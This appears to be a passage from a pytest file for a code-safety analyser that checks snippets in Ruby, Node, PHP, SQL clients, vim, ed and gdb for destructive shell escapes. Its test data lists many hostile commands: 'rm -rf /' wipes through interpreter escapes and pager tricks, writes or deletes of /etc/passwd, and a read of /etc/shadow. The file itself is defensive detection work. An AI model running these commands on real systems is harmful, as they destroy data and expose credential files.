    ("ruby", "system 'rm', '-rf', '/'", [], [("rm", "-rf", "/")], []),
    ("ruby", "%x(rm -rf /)", [WIPE], [], []),
    ("ruby", 'puts "#{`rm -rf /`}"', [WIPE], [], []),
    ("ruby", "require 'fileutils'; FileUtils.rm_rf('/')", [], [], [("delete", "/")]),
    ("ruby", "FileUtils.rm_rf %w[/etc /usr]", [], [], [("delete", "/etc"), ("delete", "/usr")]),
    ("ruby", "File.delete('/etc/passwd')", [], [], [("delete", "/etc/passwd")]),
    ("ruby", "File.open('/etc/passwd', 'w')", [], [], [("write", "/etc/passwd")]),
    ("node", "require('child_process').execSync('rm -rf /', {stdio: 'inherit'})", [WIPE], [], []),
    ("node", "require('child_process').exec(`rm -rf /`)", [WIPE], [], []),
    ("node", "require('child_process').spawn('rm', ['-rf', '/'])", [], [("rm", "-rf", "/")], []),
    ("node", "require('fs').rmSync('/', {recursive: true})", [], [], [("delete", "/")]),
    ("node", "const fs = require('fs'); fs.unlinkSync('/etc/' + 'passwd')", [], [], [("delete", "/etc/passwd")]),
    ("php", "shell_exec('rm -rf /');", [WIPE], [], []),
    ("php", "echo `rm -rf /`;", [WIPE], [], []),
    ("php", "unlink('/etc/passwd');", [], [], [("delete", "/etc/passwd")]),
    ("php", "file_put_contents('/etc/passwd', '');", [], [], [("write", "/etc/passwd")]),
    ("lua", "os.execute('rm -rf /')", [WIPE], [], []),
    ("lua5.4", "os.execute([[rm -rf /]])", [WIPE], [], []),
    ("lua", "os.remove('/etc/passwd')", [], [], [("delete", "/etc/passwd")]),
    ("Rscript", "system('rm -rf /')", [WIPE], [], []),
    ("psql", "\\! rm -rf /", [WIPE], [], []),
    ("psql", "\\! echo a\\b", ["echo a\\b"], [], []),
    ("psql", "SELECT 1;\n\\! rm -rf /\nSELECT 2", [WIPE], [], []),
    ("psql", "COPY t TO PROGRAM 'rm -rf /'", [WIPE], [], []),
    ("psql", "COPY t FROM PROGRAM $$rm -rf /$$", [WIPE], [], []),
    ("psql", "\\copy t to program 'rm -rf /'", [WIPE], [], []),
    ("psql", "\\o |rm -rf /", [WIPE], [], []),
    ("psql", "SELECT 1 \\g |rm -rf /", [WIPE], [], []),
    ("psql", "COPY t TO '/etc/passwd'", [], [], [("write", "/etc/passwd")]),
    ("psql", "\\copy t to '/etc/passwd'", [], [], [("write", "/etc/passwd")]),
    ("psql", "\\o /etc/passwd", [], [], [("write", "/etc/passwd")]),
    ("psql", "\\x \\! rm -rf /", [WIPE], [], []),
    ("mysql", "\\! rm -rf /", [WIPE], [], []),
    ("mysql", "SELECT 1 \\! rm -rf /", [WIPE], [], []),
    ("mysql", "system rm -rf /", [WIPE], [], []),
    ("mysql", "SELECT 1; system rm -rf /", [WIPE], [], []),
    ("mysql", "pager rm -rf /", [WIPE], [], []),
    ("mysql", "SELECT 1 INTO OUTFILE '/etc/passwd'", [], [], [("write", "/etc/passwd")]),
    ("mysql", "tee /etc/passwd", [], [], [("append", "/etc/passwd")]),
    ("mysql", "SELECT LOAD_FILE('/etc/shadow')", [], [], [("read", "/etc/shadow")]),
    ("sqlite3", ".shell rm -rf /", [WIPE], [], []),
    ("sqlite3", ".sys rm -rf /", [WIPE], [], []),
    ("sqlite3", "SELECT 1;\n.once |rm -rf /", [WIPE], [], []),
    ("sqlite3", ".output /etc/passwd", [], [], [("write", "/etc/passwd")]),
    ("sqlite3", ".import '|rm -rf /' t", ["rm -rf /"], [], []),
    ("sqlcmd", "EXEC xp_cmdshell 'rm -rf /'", [WIPE], [], []),
    ("sqlcmd", "!! rm -rf /", [WIPE], [], []),
    ("hive", "!rm -rf /;", [WIPE], [], []),
    ("beeline", "!sh rm -rf /", [WIPE], [], []),
    ("impala-shell", "shell rm -rf /;", [WIPE], [], []),
    ("vim", ":!rm -rf /", [WIPE], [], []),
    ("vim", "+!rm -rf /", [WIPE], [], []),
    ("vim", "w !rm -rf /", [WIPE], [], []),
    ("vim", ":r !rm -rf /", [WIPE], [], []),
    ("vim", "%!rm -rf /", [WIPE], [], []),
    ("vim", "silent !rm -rf /", [WIPE], [], []),
    ("vim", "call system('rm -rf /')", [WIPE], [], []),
    ("ed", "!rm -rf /", [WIPE], [], []),
    ("ed", "r !rm -rf /", [WIPE], [], []),
    ("gdb", "shell rm -rf /", [WIPE], [], []),
    ("gdb", "!rm -rf /", [WIPE], [], []),
    ("gdb", 'call (int)system("rm -rf /")', [WIPE], [], []),
]


@pytest.mark.parametrize(("program", "level", "code"), ROWS)
def test_level(program, level, code):
    found = analyse(program, code)
    assert (found.level, found) == (level, found)
    assert bool(found.reason) == bool(found.rule) == (level != SAFE)


@pytest.mark.parametrize(("program", "code", "shells", "calls", "paths"), HANDS)
def test_what_it_hands_on(program, code, shells, calls, paths):
    found = analyse(program, code)
    assert (list(found.shells), list(found.calls), list(found.paths)) == (shells, calls, paths)


def test_reasons_are_short_and_rules_are_names():
    for program, _, code in ROWS:
        found = analyse(program, code)
        assert len(found.reason) <= 90 and found.reason[-1:] != "." and found.rule == found.rule.lower().replace(" ", "-")


def test_perl_flags_decide_what_argv_does():
    assert analyse("perl", 'print "@ARGV"').level == SAFE
    assert analyse("perl", 'BEGIN { $ARGV[0] = "id|" }', frozenset(("-n", "-e"))).level == DANGEROUS


def test_names_with_numbers():
    assert analyse("python3.11", "print(1)").level == analyse("perl5.36.0", "print 1").level == analyse("sqlite3", "SELECT 1").level == SAFE
    assert {"awk", "python", "mysql", "jq", "redis-cli"} <= languages()


def hostile():
    yield from ("(" * 50_000, "[" * 50_000, "{" * 50_000, '"' * 50_001, "'" * 50_001, "/" * 50_001, "`" * 50_001, "\\" * 50_001, "$" * 50_000, "$(" * 30_000, "a" * 100_000)
    yield from ("/*" * 50_000, "-- \n" * 25_000, "s/" * 30_000, "1+" * 30_000 + "1", "a." * 40_000, "x=" * 40_000, "not " * 20_000, "q(" * 30_000, "s{" * 30_000, "%(" * 40_000, "\n" * 90_000, "| " * 40_000)
    yield from ("'a'||" * 15_000, "$a$" * 25_000, "print > " * 10_000, '"a" | getline ' * 6_000, "exec(" * 15_000, "system(" * 12_000, "lambda:" * 12_000, '"\\("' * 20_000, "SELECT " * 12_000, "WITH (DELETE " * 7_000)
    yield from ("DELETE FROM t WHERE " + "1=1 OR " * 12_000, "\\x " * 30_000, "!" * 50_000, "#{" * 40_000, "[[" * 40_000, "%q" * 40_000, "<" * 50_000, "/*!" * 30_000, "$x[" * 30_000, "$ARGV " * 10_000, "x = x\n" * 10_000)


@pytest.mark.parametrize("program", sorted({*LEVELLED, "duckdb", "ed"}))
def test_hostile_text_has_a_level(program):
    for text in hostile():
        assert analyse(program, text[:8000]).level in LEVELS


def test_any_text_has_a_level():
    chooser = random.Random(7)
    pieces = [*"\"'`/\\|&;(){}[]<>$@%#!=+-*.,:~^? \n\t\0", "system", "print", "s/", "getline", "SELECT", "DROP", "import", "exec", "é", "\x01", "w ", "e ", *string.ascii_letters[:6], "1", "qx", "m", "%x", "\\!", "/*", "*/", "--", "$$"]
    for _ in range(800):
        text = "".join(chooser.choices(pieces, k=chooser.randint(1, 14)))
        for program in ("awk", "sed", "perl", "python3", "ruby", "node", "php", "lua", "Rscript", "mysql", "psql", "sqlite3", "jq", "dc", "vim", "gdb", "ed", "redis-cli", "mongosh", "sqlcmd", "hive"):
            assert analyse(program, text).level in LEVELS, (program, text)


def test_nothing_heavy_is_loaded_before_it_is_needed():
    script = "import sys; import opsterm.guard_code; print([n for n in sys.modules if n in ('re', 'ast') or n.startswith('opsterm.guard_')])"
    out = subprocess.run([sys.executable, "-S", "-c", script], capture_output=True, text=True, cwd=Path(__file__).parent.parent, check=True)
    assert eval(out.stdout) in (["opsterm.guard_effects", "opsterm.guard_code"], ["opsterm.guard_code", "opsterm.guard_effects"])
